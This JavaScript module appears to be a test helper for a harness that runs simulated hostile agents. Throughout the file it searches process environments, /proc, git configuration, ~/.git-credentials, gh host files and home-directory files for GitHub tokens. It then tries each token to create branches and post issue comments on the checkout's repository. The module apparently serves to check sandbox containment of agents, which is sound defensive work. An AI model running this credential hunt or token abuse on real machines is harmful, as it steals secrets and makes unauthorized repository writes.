// Shared by the hostile fake agents: find every token-looking string on the machine, find the
// GitHub they belong to, and try to write with each. Plain Node, no dependencies. Each agent
// writes what it found and what it tried as JSON lines under the report folder named in its
// prompt (`hostile-report-dir: /path`), which the test reads.
import { execFileSync } from "node:child_process";
import { appendFileSync, readdirSync, readFileSync, statSync } from "node:fs";
import { homedir } from "node:os";
import { dirname, join } from "node:path";

export const label = `${process.env.NARUTO_ITEM ?? "agent"}-${process.env.NARUTO_ATTEMPT ?? "1"}`;

function prompt() {
  try {
    return readFileSync(process.env.NARUTO_PROMPT_FILE ?? "", "utf8");
  } catch {
    return "";
  }
}

/** A `name: value` line of the prompt (the test writes these into the item's prompt). */
export function promptValue(name) {
  const line = prompt()
    .split("\n")
    .find((l) => l.trim().startsWith(`${name}: `));
  return line === undefined
    ? undefined
    : line
        .trim()
        .slice(name.length + 2)
        .trim();
}

/** Appends one JSON line to `<report dir>/<file>` (nothing when no report folder was named). */
export function report(file, entry) {
  const line = JSON.stringify({ label, at: Date.now(), ...entry });
  // Also on stdout, into the job's log: in a sandbox the report folder is out of reach.
  if (promptValue("hostile-report-log") === "yes") console.log(`naruto-hostile-report ${file} ${line}`);
  const dir = process.env.HOSTILE_REPORT_DIR ?? promptValue("hostile-report-dir");
  if (!dir) return;
  try {
    appendFileSync(join(dir, file), `${line}\n`);
  } catch {
    // A report folder we cannot write is the test's problem (or the sandbox's doing); keep attacking.
  }
}

const PATTERNS = [
  /\bgh[pousr]_[A-Za-z0-9]{20,}/g,
  /x-access-token:([^@\s'"]+)@/g,
  /(?:token|bearer)\s+([A-Za-z0-9_.-]{20,})/gi,
  /\beyJ[\w-]{8,}\.[\w-]{8,}\.[\w-]{8,}/g,
];

/** Token-looking strings in `text`; `basic` headers are decoded first. */
export function tokensIn(text) {
  const found = new Set();
  const decoded = [...text.matchAll(/AUTHORIZATION:\s*basic\s+([A-Za-z0-9+/=]{8,})/gi)].map((m) => Buffer.from(m[1], "base64").toString("utf8"));
  for (const source of [text, ...decoded]) {
    for (const pattern of PATTERNS) for (const m of source.matchAll(pattern)) found.add(m[1] ?? m[0]);
    for (const d of decoded) if (d.includes(":")) found.add(d.slice(d.indexOf(":") + 1));
  }
  return [...found].filter((t) => t.length >= 20);
}

function read(path, limit = 512 * 1024) {
  try {
    if (statSync(path).size > limit) return "";
    return readFileSync(path, "latin1");
  } catch {
    return "";
  }
}

function git(args, cwd = process.cwd()) {
  try {
    return execFileSync("git", args, { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "ignore"], timeout: 5000 });
  } catch {
    return "";
  }
}

/**
 * Whether this runs in a simulator machine (a PID namespace whose init is `sleep infinity`):
 * only there is `/proc` the job's own. On a developer's host the hunt leaves `/proc` alone.
 */
export function inMachine() {
  return read("/proc/1/cmdline").split("\0").slice(0, 2).join(" ") === "sleep infinity";
}

/** Environments of every process this one may read (in a simulator machine only). */
export function processEnvironments() {
  const found = [];
  if (!inMachine()) return found;
  for (const pid of safeList("/proc")) {
    if (!/^\d+$/.test(pid) || Number(pid) === process.pid) continue;
    const environ = read(`/proc/${pid}/environ`);
    const cmdline = read(`/proc/${pid}/cmdline`);
    if (environ !== "" || cmdline !== "") found.push({ pid: Number(pid), environ: environ.split("\0"), cmdline: cmdline.split("\0").join(" ") });
  }
  return found;
}

function safeList(dir) {
  try {
    return readdirSync(dir);
  } catch {
    return [];
  }
}

/** Files under `root` (bounded), skipping git objects and dependencies. */
function walk(root, out, budget) {
  for (const name of safeList(root)) {
    if (out.length >= budget) return;
    const path = join(root, name);
    let stat;
    try {
      stat = statSync(path);
    } catch {
      continue;
    }
    if (stat.isDirectory()) {
      if (name !== "objects" && name !== "node_modules" && name !== "proc") walk(path, out, budget);
    } else if (stat.isFile()) {
      out.push(path);
    }
  }
}

/** Every token-looking string on the machine, each with the first place it was found. */
export function huntTokens() {
  const sources = new Map();
  const add = (where, text) => {
    for (const token of tokensIn(text)) if (!sources.has(token)) sources.set(token, where);
  };
  add(
    "own environment",
    Object.entries(process.env)
      .map(([k, v]) => `${k}=${v}`)
      .join("\n"),
  );
  const envs = processEnvironments();
  const dirs = new Set([homedir(), process.cwd(), dirname(process.cwd()), dirname(dirname(process.cwd()))]);
  for (const p of envs) {
    add(`/proc/${p.pid}/environ`, p.environ.join("\n"));
    add(`/proc/${p.pid}/cmdline`, p.cmdline);
    for (const entry of p.environ) {
      const m = /^(HOME|GITHUB_WORKSPACE|RUNNER_TEMP|RUNNER_WORKSPACE)=(.+)$/.exec(entry);
      if (m) dirs.add(m[2]);
    }
  }
  add("git config (checkout)", git(["config", "--list", "--show-origin"]));
  add("git config (global)", git(["config", "--global", "--list"]));
  for (const file of [join(homedir(), ".gitconfig"), join(homedir(), ".git-credentials"), join(homedir(), ".config/gh/hosts.yml")]) add(file, read(file));
  const files = [];
  for (const dir of dirs) walk(dir, files, 4000);
  for (const file of files) add(file, read(file));
  return { tokens: [...sources].map(([token, where]) => ({ token, where })), processes: envs.length, files: files.length };
}

/**
 * The GitHub this checkout came from: API bases to try, server, owner, repository, and a commit
 * to point refs at — from the checkout's remote, else from other processes' GITHUB_* variables.
 */
export function findTarget(checkout = process.cwd()) {
  const remote = git(["remote", "get-url", "origin"], checkout).trim();
  const url = /^(https?:\/\/)(?:[^@/]+@)?([^/]+)\/([^/]+)\/([^/]+?)(?:\.git)?$/.exec(remote);
  const seen = (name) => [
    ...new Set(processEnvironments().flatMap((p) => p.environ.filter((e) => e.startsWith(`${name}=`)).map((e) => e.slice(name.length + 1)))),
  ];
  const server = url ? `${url[1]}${url[2]}` : (seen("GITHUB_SERVER_URL")[0] ?? null);
  const [owner, repo] = url ? [url[3], url[4]] : (seen("GITHUB_REPOSITORY")[0] ?? "/").split("/");
  const apis = new Set(seen("GITHUB_API_URL"));
  if (server !== null) apis.add(`${server}/api/v3`), apis.add(server);
  return { apis: [...apis], server, owner: owner || null, repo: repo || null, sha: git(["rev-parse", "HEAD"], checkout).trim() };
}

/** Token-looking strings in the environments and command lines of other processes only (fast). */
export function processTokens() {
  const out = [];
  for (const p of processEnvironments()) {
    for (const token of tokensIn(`${p.environ.join("\n")}\n${p.cmdline}`)) out.push({ token, where: `/proc/${p.pid}` });
  }
  return out;
}

/**
 * Tries to create a ref and a comment with each token (and with none); resolves with every
 * answer, and calls `onAttempt` with each as soon as it is known.
 */
export async function tryWrites(target, tokens, tag, onAttempt = () => {}) {
  const attempts = [];
  const issue = Number(promptValue("hostile-issue") ?? "1");
  let n = 0;
  for (const token of [null, ...tokens]) {
    for (const api of target.apis) {
      n++;
      const headers = { "content-type": "application/json", ...(token === null ? {} : { authorization: `token ${token}` }) };
      const calls = [
        ["create ref", `${api}/repos/${target.owner}/${target.repo}/git/refs`, { ref: `refs/heads/hostile-${tag}-${n}`, sha: target.sha }],
        ["comment", `${api}/repos/${target.owner}/${target.repo}/issues/${issue}/comments`, { body: `hostile write ${tag} ${n}` }],
      ];
      for (const [what, url, body] of calls) {
        let status = 0;
        try {
          status = (await fetch(url, { method: "POST", headers, body: JSON.stringify(body), signal: AbortSignal.timeout(5000) })).status;
        } catch {
          status = -1;
        }
        const attempt = {
          what,
          api,
          token: token === null ? "(none)" : `${token.slice(0, 8)}…(${token.length})`,
          status,
          worked: status >= 200 && status < 300,
        };
        attempts.push(attempt);
        onAttempt(attempt);
      }
    }
  }
  return attempts;
}
